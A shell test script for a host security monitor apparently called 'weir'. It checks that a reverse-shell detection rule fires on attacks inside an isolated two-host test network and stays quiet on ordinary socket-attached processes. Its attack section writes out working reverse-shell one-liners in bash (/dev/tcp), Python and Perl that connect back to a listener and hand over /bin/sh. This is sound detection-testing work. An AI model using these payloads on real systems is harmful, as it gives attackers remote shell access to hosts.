#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Shells that somebody types into over the network, made as attackers make them: each is one
# REVERSE_SHELL. What an ordinary host does with shells and sockets beside them is none.
# alone: every weir of the machine sees its shells

. "$(dirname "$0")/../lib.sh"
. "$TREE/tests/lib/net.sh"
require_live setsid

PYTHON=$(python3 -c 'import sys; print(sys.executable)')
HERE=10.63.0.2 THERE=10.63.0.1

host here there
wire here eth0 there eth0
address here eth0 $HERE/24
address there eth0 $THERE/24

# Whoever types: it takes a connection, says `echo` and a number, and hears it back.
cat >"$SCRATCH/typist.py" <<-'END'
	import socket, sys
	def type_into(s):
	    s.settimeout(10)
	    s.sendall(b"echo $((6 * 7))\n")
	    heard = b""
	    while b"42" not in heard:
	        more = s.recv(4096)
	        if not more:
	            sys.exit("it hung up")
	        heard += more
	    import time; time.sleep(2.5)
	    s.sendall(b"exit\n")
	if sys.argv[1] == "wait":
	    with socket.create_server(("0.0.0.0", int(sys.argv[2]))) as server:
	        type_into(server.accept()[0])
	else:
	    type_into(socket.create_connection((sys.argv[2], int(sys.argv[3]))))
END

weir_config here
start_or_leave here
on here "$WEIR" status --json >"$SCRATCH/status"
if [ "$(python3 "$LOOK" value "$SCRATCH/status" owners.on)" != True ]; then
	skip reverse_shell "$(python3 "$LOOK" value "$SCRATCH/status" owners.why)"
	exit 0
fi

# Scripts and other programs that had a connection as standard input and output.
shells() {
	python3 - "$SCRATCH/here/events.json" <<-'END'
		import json, sys
		heard = set()
		for line in open(sys.argv[1]):
		    try:
		        one = json.loads(line)
		    except ValueError:
		        continue
		    if one.get("event.dataset") == "weir.process" and one.get("process.stdio_socket"):
		        heard.add(one["process.pid"])
		print(len(heard))
	END
}
alerts() { query here "select count(*) from detection where rule_name like 'REVERSE_SHELL%'"; }

# ---- ordinary: before all else, so that nothing of the others is taken for theirs ----

cat >"$SCRATCH/handler.sh" <<-'END'
	#!/bin/sh
	read -r line
	echo "you said $line"
END
chmod +x "$SCRATCH/handler.sh"
cat >"$SCRATCH/inetd.py" <<-'END'
	import os, socket, subprocess, sys
	with socket.create_server(("0.0.0.0", 7)) as server:
	    print("ready", flush=True)
	    s = server.accept()[0]
	    subprocess.run([sys.argv[1]], stdin=s, stdout=s)
	    subprocess.run(["/bin/sh", "-c", "read line; echo $line"], stdin=s, stdout=s)
	    a, b = socket.socketpair()
	    subprocess.run(["/bin/sh"], stdin=a, stdout=a, timeout=None) if b.sendall(b"exit\n") is None else None
	    subprocess.run(["sh", "-c", "true"])
END
behind here "$PYTHON" "$SCRATCH/inetd.py" "$SCRATCH/handler.sh" >"$SCRATCH/inetd.said"
wait_for 10 grep -q ready "$SCRATCH/inetd.said"
on there "$PYTHON" -c "
import socket
s = socket.create_connection(('$HERE', 7)); s.sendall(b'one\n'); print(s.recv(99)); s.sendall(b'two\n'); print(s.recv(99))" >/dev/null
on here bash -c "exec 3<>/dev/tcp/$THERE/9 || true" 2>/dev/null
sleep 4
same "reverse_shell/ordinary" 0 "$(alerts)"
check "reverse_shell/ordinary: scripts on a connection were seen" test "$(shells)" -ge 1

# ---- attacks ----

# Each in a control group of its own, as a service has: a process tree for itself.
GROUPS2=$(findmnt -n -t cgroup2 -o TARGET | head -n 1)
made=0
# typed PORT COMMAND…: runs it here, while somebody there waits at PORT and types.
typed() {
	local port=$1 typist status
	shift
	made=$((made + 1))
	mkdir "$GROUPS2/$NET-$made"
	behind there "$PYTHON" "$SCRATCH/typist.py" wait "$port"
	typist=$!
	wait_for 10 listening there "$port"
	# shellcheck disable=SC2016
	on here bash -c 'echo $$ >"$1/cgroup.procs"; shift; exec timeout 20 setsid "$@"' _ "$GROUPS2/$NET-$made" "$@" \
		</dev/null >/dev/null 2>&1
	wait "$typist"
	status=$?
	sleep 0.3
	rmdir "$GROUPS2/$NET-$made"
	return $status
}
more_alerts() { [ "$(alerts)" -ge "$1" ]; }
# attack NAME PORT COMMAND…
attack() {
	local name=$1 before
	shift
	before=$(alerts)
	check "reverse_shell/$name: it works" typed "$@"
	wait_for $((15 * SLOW)) more_alerts $((before + 1))
	same "reverse_shell/$name: it is told once" $((before + 1)) "$(alerts)"
}

# Not as an argument, which all that start it would have, each in its own tree.
echo "bash -i >& /dev/tcp/$THERE/4441 0>&1" >"$SCRATCH/bash.sh"
attack "bash" 4441 bash "$SCRATCH/bash.sh"
attack "python" 4442 "$PYTHON" -c "
import os, socket
s = socket.create_connection(('$THERE', 4442))
for n in range(3):
    os.dup2(s.fileno(), n)
os.execl('/bin/sh', 'sh')"
attack "python and a child" 4443 "$PYTHON" -c "
import socket, subprocess
s = socket.create_connection(('$THERE', 4443))
subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)"
attack "a shell that turns round" 4444 bash -c "exec bash --norc <<<'exec 0<>/dev/tcp/$THERE/4444 1>&0 2>&0'"
if command -v perl >/dev/null; then
	attack "perl" 4445 perl -e "
use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4445, inet_aton('$THERE')));
open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');"
else
	skip "reverse_shell/perl" "no perl"
fi
weir_stop here || not_ok reverse_shell/end "weir did not end well"
